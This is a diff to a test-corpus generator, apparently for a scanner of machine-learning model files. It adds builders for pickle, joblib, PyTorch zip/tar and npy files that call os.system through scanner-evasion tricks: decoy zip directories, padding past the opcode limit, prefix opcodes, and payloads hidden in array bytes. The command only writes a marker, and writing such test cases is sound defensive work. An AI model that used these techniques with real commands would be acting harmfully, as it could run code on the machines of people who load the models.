@@ -21,7 +21,15 @@ from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
 
-__all__ = ["CASES", "MARKER", "Case", "build_benign", "build_corpus", "marker_command"]
+__all__ = [
+    "CASES",
+    "MARKER",
+    "Case",
+    "build_benign",
+    "build_corpus",
+    "marker_command",
+    "padded_member",
+]
 
 MARKER = "cairn-scan-executed"
 
@@ -487,6 +495,153 @@ def _joblib_hidden_in_array(folder: Path) -> bytes:
     )
 
 
+def _zip_parts(data: bytes) -> tuple[bytes, bytes, int]:
+    """Local part, central directory and entry count of a zip written by zipfile."""
+    end = data.rfind(b"PK\x05\x06")
+    _, _, _, count, size, offset, _ = struct.unpack("<HHHHIIH", data[end + 4 : end + 22])
+    return data[:offset], data[offset : offset + size], count
+
+
+def _shift_directory(directory: bytes, delta: int) -> bytes:
+    out = bytearray(directory)
+    pos = 0
+    while pos < len(out):
+        nlen, elen, clen = struct.unpack("<HHH", out[pos + 28 : pos + 34])
+        (offset,) = struct.unpack("<I", out[pos + 42 : pos + 46])
+        out[pos + 42 : pos + 46] = struct.pack("<I", offset + delta)
+        pos += 46 + nlen + elen + clen
+    return bytes(out)
+
+
+def _zip_decoy_directory(folder: Path) -> bytes:
+    """PyTorch reads the directory at the declared offset (the payload); zipfile reads a decoy placed right
+    before the end record, taking the gap for prepended data."""
+    evil = _system(folder, 2)
+    benign = (b"\x80\x02}q\x00.").ljust(len(evil), b"\x00")
+    real_local, real_dir, count = _zip_parts(_torch_zip({"data.pkl": evil, "version": b"3\n"}))
+    decoy_local, decoy_dir, _ = _zip_parts(_torch_zip({"data.pkl": benign, "version": b"3\n"}))
+    data = real_local + b"\x00" * len(decoy_dir) + decoy_local
+    offset = len(data)
+    data += real_dir + _shift_directory(decoy_dir, len(real_local))
+    return data + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(real_dir), offset, 0)
+
+
+def _prefixed(prefix: bytes) -> Callable[[Path], bytes]:
+    """A protocol 0 payload behind a harmless first opcode: pickle.load accepts any opcode first."""
+    return lambda folder: prefix + _proto0(folder)
+
+
+def _frame_no_proto(folder: Path) -> bytes:
+    body = _proto0(folder)
+    return b"\x95" + struct.pack("<Q", len(body)) + body
+
+
+def _padded(folder: Path) -> bytes:
+    """NONE + POP 60,000 times: past the sniffer's opcode limit before the payload."""
+    return b"N0" * 60_000 + _proto0(folder)
+
+
+def padded_member(folder: Path) -> bytes:
+    """A deflated data.pkl whose first MiB (all the head sniff reads) is NONE + POP padding."""
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
+        zf.writestr("archive/data.pkl", b"N0" * 600_000 + _proto0(folder))
+        zf.writestr("archive/version", b"3\n")
+    return buf.getvalue()
+
+
+def _su(text: str) -> bytes:
+    raw = text.encode()
+    return b"\x8c" + bytes([len(raw)]) + raw
+
+
+def _sg(module: str, name: str) -> bytes:
+    return _su(module) + _su(name) + b"\x93"
+
+
+def _wrapper_state(dtype_ops: bytes, count: int) -> bytes:
+    return (
+        b"}("
+        + _su("subclass")
+        + _sg("numpy", "ndarray")
+        + _su("shape")
+        + b"K"
+        + bytes([count])
+        + b"\x85"
+        + _su("order")
+        + _su("C")
+        + _su("dtype")
+        + dtype_ops
+        + _su("allow_mmap")
+        + b"\x89u"
+    )
+
+
+def _joblib_tail(folder: Path) -> bytes:
+    """POP the array, then os.system(marker): what joblib.load runs right after the array bytes."""
+    return b"0" + _sg("os", "system") + _su(marker_command(folder)) + b"\x85R"
+
+
+def _joblib_newobj_wrapper(folder: Path) -> bytes:
+    """The wrapper built by copyreg.__newobj__: joblib still reads 16 raw array bytes after its BUILD,
+    which here start with a BINBYTES that would swallow the payload if walked as opcodes."""
+    tail = _joblib_tail(folder)
+    array = b"B" + struct.pack("<I", 11 + len(tail)) + b"\x00" * 11
+    return (
+        b"\x80\x04"
+        + _sg("copyreg", "__newobj__")
+        + _sg("joblib.numpy_pickle", "NumpyArrayWrapper")
+        + b"\x85R"
+        + _wrapper_state(_sg("numpy", "dtype") + _su("u1") + b"\x85R", 16)
+        + b"b"
+        + array
+        + tail
+        + b"."
+    )
+
+
+def _joblib_dtype_float(folder: Path) -> bytes:
+    """dtype(builtins.float): 2 float64 = 16 raw bytes, which walked as a nested pickle swallow the payload."""
+    tail = _joblib_tail(folder)
+    array = b"\x80\x04B" + struct.pack("<I", 9 + len(tail)) + b"\x00" * 9
+    return (
+        b"\x80\x04"
+        + _sg("joblib.numpy_pickle", "NumpyArrayWrapper")
+        + b")\x81"
+        + _wrapper_state(_sg("numpy", "dtype") + _sg("builtins", "float") + b"\x85R", 2)
+        + b"b"
+        + array
+        + tail
+        + b".."
+    )
+
+
+def _tar_v7(folder: Path) -> bytes:
+    """A legacy torch tar checkpoint in V7 format: no ustar magic, which tarfile accepts by checksum."""
+    raw = bytearray(_tar({n: _system(folder, 2) for n in ("storages", "tensors", "pickle")}))
+    for off in range(0, len(raw) - 511, 512):
+        if raw[off + 257 : off + 262] == b"ustar":
+            raw[off + 257 : off + 265] = b"\x00" * 8
+            raw[off + 148 : off + 156] = b" " * 8
+            raw[off + 148 : off + 156] = b"%06o\x00 " % sum(raw[off : off + 512])
+    return bytes(raw)
+
+
+def _joblib_zf(folder: Path) -> bytes:
+    """joblib <= 0.9.3 "ZF" files: b"ZF", the length as hex padded to 19 bytes, then zlib data."""
+    body = _system(folder, 2)
+    return b"ZF" + (b"0x%x" % len(body)).ljust(19) + zlib.compress(body)
+
+
+def _npy_descr(descr: object) -> Callable[[Path], bytes]:
+    def build(folder: Path) -> bytes:
+        header = repr({"descr": descr, "fortran_order": False, "shape": (1,)})
+        header += " " * (63 - (10 + len(header)) % 64) + "\n"
+        return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + _system(folder, 2)
+
+    return build
+
+
 CASES: tuple[Case, ...] = (
     *(
         Case(
@@ -553,6 +708,25 @@ CASES: tuple[Case, ...] = (
     Case("load_from_bytes.pkl", _load_from_bytes, "pickle-dangerous-global", "os.system"),
     Case("joblib_object.joblib", _joblib_object, "pickle-dangerous-global", "system"),
     Case("joblib_hidden_in_array.joblib", _joblib_hidden_in_array, "pickle-dangerous-global", "os.system"),
+    Case("zip_decoy_directory.pt", _zip_decoy_directory, "zip-ambiguous-directory"),
+    Case("zip_decoy_directory_payload.pt", _zip_decoy_directory, "pickle-dangerous-global", "os.system"),
+    Case("newtrue_pop.pt", _prefixed(b"\x880"), "pickle-dangerous-global", "os.system"),
+    Case("short_binbytes_pop.pt", _prefixed(b"C\x01x0"), "pickle-dangerous-global", "os.system"),
+    Case("empty_set_pop.pkl", _prefixed(b"\x8f0"), "pickle-dangerous-global", "os.system"),
+    Case("frame_no_proto.pkl", _frame_no_proto, "pickle-dangerous-global", "os.system"),
+    Case("padded_p0.pkl", _padded, "pickle-dangerous-global", "os.system"),
+    Case("joblib_newobj_wrapper.joblib", _joblib_newobj_wrapper, "pickle-dangerous-global", "os.system"),
+    Case("joblib_dtype_float.joblib", _joblib_dtype_float, "pickle-dangerous-global", "os.system"),
+    Case("legacy_v7.tar.pt", _tar_v7, "pickle-dangerous-global", "os.system"),
+    Case("old_joblib_zf.pkl", _joblib_zf, "pickle-dangerous-global", "os.system"),
+    Case("descr_object.npy", _npy_descr("object"), "pickle-dangerous-global", "os.system"),
+    Case("descr_object_upper.npy", _npy_descr("|O8"), "pickle-dangerous-global", "os.system"),
+    Case(
+        "descr_object_struct.npy",
+        _npy_descr([("a", "<f8"), ("b", "|O")]),
+        "pickle-dangerous-global",
+        "os.system",
+    ),
 )
 
 
@@ -604,6 +778,9 @@ def build_benign(folder: Path) -> None:
         torch.save(model.state_dict(), folder / f"{name}_state.pt")
         torch.save(model, folder / f"{name}_whole.pt")
         torch.save(model.state_dict(), folder / f"{name}_legacy.bin", _use_new_zipfile_serialization=False)
+        with warnings.catch_warnings():  # whole modules in the pre-1.6 format, as old checkpoints are
+            warnings.simplefilter("ignore")
+            torch.save(model, folder / f"{name}_legacy_whole.pt", _use_new_zipfile_serialization=False)
     model = _models()["mlp"]
     assert isinstance(model, torch.nn.Module)
     for opt_name, opt in {
